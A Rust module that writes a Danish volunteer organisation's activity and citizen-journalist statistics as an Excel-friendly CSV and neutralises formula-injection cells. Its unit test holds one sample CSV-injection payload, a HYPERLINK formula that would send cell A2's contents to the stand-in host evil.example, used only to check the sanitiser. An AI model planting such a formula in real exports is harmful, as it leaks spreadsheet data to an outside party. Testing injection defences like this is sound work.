//! The figures as CSV for Excel: UTF-8 with a byte-order mark (without it Excel reads the
//! Danish letters as Latin-1), semicolons between fields and decimal commas (what Excel expects
//! with Danish regional settings), Danish column names, one row per activity and period, then
//! one per citizen journalist and period. One rectangular table: an activity's row leaves the
//! journalists' columns empty and the reverse, so Excel can filter by the group.
//!
//! Names come from people (an activity's, a journalist's): a cell that starts like a formula
//! (`=`, `+`, `-`, `@`, a tab or a carriage return) is written with an apostrophe in front, so
//! a spreadsheet shows it as text and never runs it ([`inert`], OWASP's advice on CSV
//! injection).

use super::{decimal, Counts, Line, Period, Report};
use crate::i18n::Lang;

/// The columns' Fluent keys, in order.
pub const COLUMNS: [&str; 21] = [
    "figures-csv-group",
    "figures-csv-name",
    "figures-csv-focus-area",
    "figures-csv-venue",
    "figures-csv-period",
    "figures-held",
    "figures-not-held",
    "figures-participants",
    "figures-adults",
    "figures-children",
    "figures-average",
    "figures-volunteers",
    "figures-first-timers",
    "figures-walk-ins",
    "figures-signups",
    "figures-cancellations",
    "figures-no-shows",
    "figures-promotions",
    "figures-pieces-sent",
    "figures-contributions",
    "figures-photos",
];

/// The report as CSV bytes, byte-order mark first. Each line appears twice: this period, then
/// the same period last year.
pub fn to_csv(lang: Lang, report: &Report) -> Result<Vec<u8>, csv::Error> {
    let mut writer = csv::WriterBuilder::new()
        .delimiter(b';')
        .terminator(csv::Terminator::CRLF)
        .from_writer(b"\xEF\xBB\xBF".to_vec());
    writer.write_record(COLUMNS.iter().map(|key| lang.text(key)))?;
    let mut writer = InertWriter(writer);
    let groups = [
        ("figures-csv-activity", &report.by_activity),
        ("figures-csv-area", &report.by_focus_area),
        ("figures-csv-total", &vec![report.total.clone()]),
    ];
    for (group, lines) in groups {
        for line in lines.iter() {
            for (period, counts) in [
                (&report.period, &line.current),
                (&report.previous, &line.previous),
            ] {
                writer.write_record(row(lang, group, line, period, counts))?;
            }
        }
    }
    let contributors = &report.contributors;
    let lines = contributors
        .by_journalist
        .iter()
        .map(|line| {
            (
                "figures-csv-journalist",
                line.name.clone(),
                line.current,
                line.previous,
            )
        })
        .chain(std::iter::once((
            "figures-csv-total",
            lang.text("figures-total"),
            contributors.total,
            contributors.previous_total,
        )));
    for (group, name, current, previous) in lines {
        for (period, counts) in [(&report.period, current), (&report.previous, previous)] {
            let mut row = vec![String::new(); COLUMNS.len()];
            row[0] = lang.text(group);
            row[1] = name.clone();
            row[4] = period.label();
            row[18] = counts.sent.to_string();
            row[19] = counts.published.to_string();
            row[20] = counts.photos.to_string();
            writer.write_record(row)?;
        }
    }
    let mut writer = writer.0;
    writer.flush()?;
    writer
        .into_inner()
        .map_err(|err| csv::Error::from(err.into_error()))
}

/// A cell as a spreadsheet must show it: as text, also when it starts like a formula.
pub fn inert(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

/// A CSV writer whose every cell passes through [`inert`].
struct InertWriter(csv::Writer<Vec<u8>>);

impl InertWriter {
    fn write_record(&mut self, row: Vec<String>) -> Result<(), csv::Error> {
        self.0
            .write_record(row.iter().map(|cell| inert(cell).into_owned()))
    }
}

fn row(lang: Lang, group: &str, line: &Line, period: &Period, counts: &Counts) -> Vec<String> {
    vec![
        lang.text(group),
        line.name.clone(),
        line.focus_area.clone(),
        line.venue.clone(),
        period.label(),
        counts.held.to_string(),
        counts.not_held.to_string(),
        counts.participants().to_string(),
        counts.adults.to_string(),
        counts.children.to_string(),
        decimal(counts.average_participants()),
        decimal(counts.volunteers_per_occurrence()),
        counts.first_timers.to_string(),
        counts.walk_ins.to_string(),
        counts.signups.to_string(),
        counts.cancellations.to_string(),
        counts.no_shows.to_string(),
        counts.promotions.to_string(),
        // The journalists' columns.
        String::new(),
        String::new(),
        String::new(),
    ]
}

#[cfg(test)]
mod tests {
    use super::inert;

    #[test]
    fn a_cell_that_starts_like_a_formula_is_text() {
        let evil = "=HYPERLINK(\"https://evil.example/?x=\"&A2;\"Åbn\")";
        assert_eq!(inert(evil), format!("'{evil}"));
        for start in ["+1", "-1+2", "@SUM(A1)", "\tx", "\rx"] {
            assert!(inert(start).starts_with('\''), "{start:?}");
        }
        assert_eq!(inert("Fællesspisning"), "Fællesspisning");
        assert_eq!(inert("12,5"), "12,5");
    }
}
